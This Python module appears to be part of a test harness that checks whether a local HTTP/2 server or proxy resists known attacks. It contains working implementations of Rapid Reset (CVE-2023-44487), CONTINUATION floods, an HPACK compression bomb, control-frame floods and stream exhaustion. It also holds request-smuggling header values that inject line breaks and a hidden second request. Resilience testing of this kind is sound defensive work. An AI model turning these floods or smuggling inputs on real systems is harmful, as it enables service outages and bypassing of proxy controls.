"""Attacks over HTTP/2, its frames written by hand (RFC 9113, RFC 7541), with prior knowledge on a plain port.

Each attack is a coroutine of port and seconds that gives a `Done`, as those over HTTP/1.1 do.
"""

import asyncio
import collections
import contextlib
import time

from attack_http1 import BEGINNING, SMUGGLED, Done
from load_client import CHAT

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
STATUSES = {0x88: "200", 0x89: "204", 0x8B: "304", 0x8C: "400", 0x8D: "404", 0x8E: "500"}


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def integer(value: int, prefix: int, first: int = 0) -> bytes:
    """RFC 7541, section 5.1."""
    most = (1 << prefix) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def text(value: bytes) -> bytes:
    return integer(len(value), 7) + value


def field(name: bytes, value: bytes) -> bytes:
    """A field that is in no table."""
    return b"\x00" + text(name) + text(value)


def request(method: str, path: str, *fields: bytes) -> bytes:
    """A header block: method and scheme from the static table, path and authority as they are."""
    return (b"\x83" if method == "POST" else b"\x82") + b"\x86\x04" + text(path.encode("latin-1")) + b"\x01" + text(b"a") + b"".join(fields)


class Connection:
    """Reads what the server says and counts it; answers its settings and pings as an honest client does."""

    def __init__(self, counted: collections.Counter):
        self.counted = counted
        self.stream = 1
        self.ended = asyncio.Event()
        self.failed: str | None = None

    @classmethod
    async def open(cls, port: int, counted: collections.Counter, settings: bytes = b"") -> "Connection":
        self = cls(counted)
        self.reader, self.writer = await asyncio.open_connection("127.0.0.1", port)
        self.writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.task = asyncio.ensure_future(self._read())
        return self

    async def _read(self):
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await self.reader.readexactly(9)
                payload = await self.reader.readexactly(int.from_bytes(head[:3]))
                self._take(head[3], head[4], payload)
        self.ended.set()

    def _take(self, kind: int, flags: int, payload: bytes):
        if kind in (SETTINGS, PING) and not flags & ACK:
            self.writer.write(frame(kind, ACK, 0, payload if kind == PING else b""))
        elif kind == HEADERS:
            self.counted[STATUSES.get(payload[0]) or "another status"] += 1
        elif kind == RST_STREAM:
            code = int.from_bytes(payload)
            self.counted[f"RST_STREAM {ERRORS.get(code, code)}"] += 1
        elif kind == GOAWAY:
            code = int.from_bytes(payload[4:8])
            self.failed = ERRORS.get(code, str(code))
            self.counted[f"GOAWAY {self.failed}"] += 1

    def next_stream(self) -> int:
        self.stream += 2
        return self.stream - 2

    async def send(self, data: bytes, deadline: float) -> bool:
        """Writes, unless the server has ended the connection or takes nothing more."""
        try:
            self.writer.write(data)
            async with asyncio.timeout(max(0.01, deadline - time.monotonic())):
                await self.writer.drain()
            await asyncio.sleep(0)
        except (OSError, TimeoutError):
            return False
        return not self.ended.is_set()

    async def close(self):
        self.writer.transport.abort()
        self.task.cancel()


async def flood(port: int, seconds: float, connections: int, make, settings: bytes = b"", wait: float = 0.0):
    """Writes what `make(connection)` gives over and over; opens a connection anew when the server ends it."""
    counted, frames, opened, deadline = collections.Counter(), 0, 0, time.monotonic() + seconds

    async def one():
        nonlocal frames, opened
        while time.monotonic() < deadline:
            connection = None
            with contextlib.suppress(OSError):
                connection = await Connection.open(port, counted, settings)
                opened += 1
                while time.monotonic() < deadline:
                    data, count = make(connection)
                    frames += count
                    if not await connection.send(data, deadline) or wait and await asyncio.sleep(wait):
                        break
                if connection.failed is None and time.monotonic() < deadline:
                    with contextlib.suppress(TimeoutError):
                        await asyncio.wait_for(connection.ended.wait(), 1)
            if connection:
                await connection.close()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(connections)))
    return counted, f"{connections} at a time, {opened} connections, {frames / seconds:.0f} frames/s"


async def rapid_reset(port: int, seconds: float) -> Done:
    """CVE-2023-44487: requests that are reset as soon as they are sent."""

    def make(connection: Connection):
        out = b""
        for _ in range(100):
            stream = connection.next_stream()
            out += frame(HEADERS, END_HEADERS | END_STREAM, stream, request("GET", "/v1/models"))
            out += frame(RST_STREAM, 0, stream, (8).to_bytes(4))
        return out, 200

    counted, did = await flood(port, seconds, 4, make)
    return Done(did, counted, counted["GOAWAY ENHANCE_YOUR_CALM"] > 0, "told ENHANCE_YOUR_CALM")


# Requests of a connection between two pauses: what the test's own upstream can take.
AT_ONCE = 10


async def late_reset(port: int, seconds: float) -> Done:
    """The same, with time enough for each request to have been forwarded."""
    body = BEGINNING + b'a"}]}'

    def make(connection: Connection):
        out, before = b"", max(1, connection.stream - 2 * AT_ONCE)
        for stream in range(before, connection.stream, 2):
            out += frame(RST_STREAM, 0, stream, (8).to_bytes(4))
        for _ in range(AT_ONCE):
            stream = connection.next_stream()
            out += frame(HEADERS, END_HEADERS, stream, request("POST", CHAT)) + frame(DATA, END_STREAM, stream, body)
        return out, 3 * AT_ONCE

    counted, did = await flood(port, seconds, 4, make, wait=0.03)
    return Done(did, counted)


def endless_headers(piece: bytes, count: int):
    """HEADERS without an end, then CONTINUATION for ever."""

    def make(connection: Connection):
        begin = b""
        if connection.stream == 1:
            begin = frame(HEADERS, END_STREAM, connection.next_stream(), request("GET", "/v1/models"))
        return begin + frame(CONTINUATION, 0, 1, piece) * count, count

    return make


async def continuation_flood(port: int, seconds: float) -> Done:
    counted, did = await flood(port, seconds, 4, endless_headers(field(b"x-bomb", b"b" * 8_000), 20))
    ended = sum(count for what, count in counted.items() if what.startswith("GOAWAY"))
    return Done(did, counted, ended > 0, "ended by the server")


async def empty_continuations(port: int, seconds: float) -> Done:
    counted, did = await flood(port, seconds, 4, endless_headers(b"", 500))
    ended = sum(count for what, count in counted.items() if what.startswith("GOAWAY"))
    return Done(did, counted, ended > 0, "ended by the server")


async def compression_bomb(port: int, seconds: float) -> Done:
    """One long field into the table of the decoder, then references to it: 4 MB of fields in a frame of 5 KB."""

    def make(connection: Connection):
        stream = connection.next_stream()
        block = request("GET", "/v1/models") + b"\x40" + text(b"x-bomb") + text(b"b" * 3_900) + b"\xbe" * 1_000
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 1

    counted, did = await flood(port, seconds, 4, make, wait=0.002)
    return Done(did, counted, counted["200"] == 0 and counted.total() > 0, "never admitted")


async def ping_flood(port: int, seconds: float) -> Done:
    counted, did = await flood(port, seconds, 4, lambda _: (frame(PING, 0, 0, bytes(8)) * 500, 500))
    return Done(did, counted)


async def settings_flood(port: int, seconds: float) -> Done:
    counted, did = await flood(port, seconds, 4, lambda _: (frame(SETTINGS, 0, 0) * 500, 500))
    return Done(did, counted)


async def empty_data(port: int, seconds: float) -> Done:
    """A body of frames that hold nothing."""

    def make(connection: Connection):
        begin = b""
        if connection.stream == 1:
            begin = frame(HEADERS, END_HEADERS, connection.next_stream(), request("POST", CHAT))
        return begin + frame(DATA, 0, 1) * 500, 500

    counted, did = await flood(port, seconds, 4, make)
    return Done(did, counted)


async def window_updates(port: int, seconds: float) -> Done:
    counted, did = await flood(port, seconds, 4, lambda _: (frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4)) * 500, 500))
    return Done(did, counted)


async def closed_windows(port: int, seconds: float) -> Done:
    """Answers that may not be sent: each stream has a window of nothing."""
    no_window = (4).to_bytes(2) + (0).to_bytes(4)
    body = BEGINNING + b'a"}]}'

    def make(connection: Connection):
        if connection.stream > 2 * 200:
            return b"", 0
        out = b""
        for _ in range(50):
            stream = connection.next_stream()
            out += frame(HEADERS, END_HEADERS, stream, request("POST", CHAT)) + frame(DATA, END_STREAM, stream, body)
        return out, 100

    counted, did = await flood(port, seconds, 4, make, no_window, wait=0.1)
    return Done(did, counted)


async def slow_streams(port: int, seconds: float) -> Done:
    """More streams on each connection than it may have, none of them ever finished."""

    def make(connection: Connection):
        if connection.stream > 2 * 1_000:
            return b"", 0
        out = b""
        for _ in range(100):
            out += frame(HEADERS, END_HEADERS, connection.next_stream(), request("POST", CHAT))
        return out, 100

    counted, did = await flood(port, seconds, 4, make, wait=0.1)
    return Done(did, counted, counted["RST_STREAM REFUSED_STREAM"] + counted["GOAWAY PROTOCOL_ERROR"] + counted["GOAWAY ENHANCE_YOUR_CALM"] > 0, "the surplus refused")


async def smuggling(port: int, _seconds: float) -> Done:
    """What would be framing or another request, once it is written as HTTP/1.1."""
    hidden = f"GET {SMUGGLED} HTTP/1.1\r\nhost: a\r\n\r\n".encode()
    line_ends = b"a\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n" + hidden
    blocks = {
        "transfer-encoding": request("POST", "/v1/embeddings", field(b"transfer-encoding", b"chunked")),
        "connection": request("POST", "/v1/embeddings", field(b"connection", b"close")),
        "line ends in a value": request("POST", "/v1/embeddings", field(b"x-a", line_ends)),
        "line ends in a name": request("POST", "/v1/embeddings", field(b"x-a: b\r\n\r\n" + hidden, b"c")),
        "line ends in the path": request("POST", f"/v1/embeddings HTTP/1.1\r\nhost: a\r\n\r\n{hidden.decode()}"),
        "a space in the path": request("POST", f"/v1/embeddings HTTP/1.1 {SMUGGLED}"),
        "capitals": request("POST", "/v1/embeddings", field(b"Transfer-Encoding", b"chunked")),
        "a length too short": request("POST", "/v1/embeddings", field(b"content-length", b"5")),
        "two lengths": request("POST", "/v1/embeddings", field(b"content-length", b"0"), field(b"content-length", str(len(hidden) + 5).encode())),
        "two paths": request("POST", "/v1/embeddings") + b"\x04" + text(SMUGGLED.encode()),
    }
    counted = collections.Counter()
    for block in blocks.values():
        connection = await Connection.open(port, counted)
        end = time.monotonic() + 1
        await connection.send(frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1, b"0\r\n\r\n" + hidden), end)
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(connection.ended.wait(), 1)
        await connection.close()
    return Done(f"{len(blocks)} shapes", counted, True, "no hidden request arrives")
